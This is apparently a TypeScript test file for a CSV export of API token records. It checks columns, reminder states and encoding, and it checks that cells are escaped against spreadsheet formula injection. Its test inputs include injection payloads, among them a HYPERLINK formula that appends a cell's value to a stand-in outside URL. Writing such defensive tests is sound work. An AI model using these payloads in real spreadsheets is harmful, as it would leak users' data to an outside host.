import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { anyDay } from '../days/testing/days.ts';
import { type CsvWords, recordsCsv } from './csv.ts';
import { anyRecord, anyText, sampleRecord } from './testing/records.ts';
import type { TokenRecord } from './types.ts';

const words: CsvWords = {
  accountType: (type) => (type === 'agency' ? 'Agency' : 'Brand'),
  finding: (kind) => `<${kind}>`,
};

/** What a reader of tables makes of it: a row for each record, by the names of the columns. */
function read(records: readonly TokenRecord[], today = '2026-08-25'): readonly Record<string, string>[] {
  const { data, errors } = Papa.parse<Record<string, string>>(recordsCsv(records, today, words), {
    header: true,
    skipEmptyLines: true,
    newline: '\r\n',
    delimiter: ',',
  });
  expect(errors).toEqual([]);
  return data;
}

/** As a cell says it, so that no spreadsheet takes it for a formula. */
const safe = (text: string) => (/^[=+\-@\t\r\n＝＋－＠]/.test(text) ? `'${text}` : text);

it('has a row for each record under names of columns', () => {
  const full = sampleRecord({
    ticked: ['share', 'vault', 'name'],
    snoozedUntil: '2026-08-24',
    rotatedOn: ['2026-05-01', '2026-06-01'],
    reasons: [
      { finding: 'scopes-write', text: 'The job uploads.', covers: ['POST /x'], on: '2026-06-01' },
      { finding: 'name-date', text: 'Ours, as always', covers: [], on: '2026-06-01' },
    ],
  });
  const empty = sampleRecord({
    name: 'Bare',
    accountType: 'brand',
    template: null,
    scopes: null,
    owner: '',
    storedAt: '',
    rotateAfterDays: null,
    rotateBy: null,
  });
  expect(read([full, empty])).toEqual([
    {
      Name: 'Acme reporting',
      'Account type': 'Agency',
      Template: 'Reporting, read-only',
      Scopes: '12',
      'Recorded on': '2026-06-01',
      Owner: 'Dana Ito',
      'Stored at': 'Vault of the data team',
      'Rotate after (days)': '90',
      'Rotate by': '2026-08-30',
      State: 'due',
      'Snoozed until': '2026-08-24',
      'Rotated on': '2026-05-01 2026-06-01',
      'Steps after Create': '2 of 4',
      'Left as it is': '<scopes-write> “The job uploads.”; <name-date> “Ours, as always”',
    },
    {
      Name: 'Bare',
      'Account type': 'Brand',
      Template: '',
      Scopes: '',
      'Recorded on': '2026-06-01',
      Owner: '',
      'Stored at': '',
      'Rotate after (days)': '',
      'Rotate by': '',
      State: 'no reminder',
      'Snoozed until': '',
      'Rotated on': '',
      'Steps after Create': '0 of 4',
      'Left as it is': '',
    },
  ]);
});

it.each([
  ['2026-08-01', 'later'],
  ['2026-08-30', 'due'],
  ['2026-08-31', 'overdue'],
])('says how each stands on %s', (today, state) => {
  expect(read([sampleRecord()], today)[0]?.['State']).toBe(state);
});

it('without records is the names of the columns', () => {
  expect(recordsCsv([], '2026-06-01', words)).toMatch(/^\uFEFF"Name","Account type",.*\r\n$/);
  expect(read([])).toEqual([]);
});

it('begins with the mark by which spreadsheets know UTF-8, and ends each row with CR and LF', () => {
  const text = recordsCsv([sampleRecord({ name: 'Größe 日本' })], '2026-06-01', words);
  expect([...new TextEncoder().encode(text).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(text.split('\r\n')).toHaveLength(3);
  expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
});

describe('what a spreadsheet would take for a formula', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '=HYPERLINK("https://x.example/?"&A1,"x")',
  ])('%j is text', (name) => {
    expect(recordsCsv([sampleRecord({ name })], '2026-06-01', words)).toContain(
      `\r\n"'${name.replaceAll('"', '""')}",`,
    );
    const [row] = read([sampleRecord({ name, owner: name, storedAt: name, template: { id: 't', name } })]);
    for (const column of ['Name', 'Owner', 'Stored at', 'Template']) expect(row?.[column]).toBe(`'${name}`);
  });

  it.each(['a=1', "'=1", '1-2', 'a@b.example', '"=1'])('%j stays as it is', (name) => {
    expect(read([sampleRecord({ name })])[0]?.['Name']).toBe(name);
  });
});

it('whatever stands in records is read back, line breaks as well', () => {
  const nasty = fc.array(fc.oneof(anyText, fc.constantFrom('\r\n', '\n', '"', '","', '=', ';', '\t')), {
    maxLength: 6,
  });
  fc.assert(
    fc.property(fc.array(anyRecord(), { maxLength: 4 }), nasty, anyDay, (records, parts, today) => {
      const all = [...records, sampleRecord({ name: `n${parts.join('')}`, owner: parts.join('') })];
      const rows = read(all, today);
      expect(rows.map((row) => row['Name'])).toEqual(all.map(({ name }) => safe(name)));
      expect(rows.map((row) => row['Owner'])).toEqual(all.map(({ owner }) => safe(owner)));
      expect(rows.map((row) => row['Stored at'])).toEqual(all.map(({ storedAt }) => safe(storedAt)));
      expect(rows.map((row) => row['Rotate by'])).toEqual(all.map(({ rotateBy }) => rotateBy ?? ''));
      for (const row of rows)
        for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@\t\r\n]/);
    }),
  );
});

it.each(['=1+1', '+1', '-1', '@x', '＝1+1', '＋1', '－1', '＠x'])('%s is no formula', (owner) => {
  expect(read([sampleRecord({ owner })])[0]?.['Owner']).toBe(`'${owner}`);
});
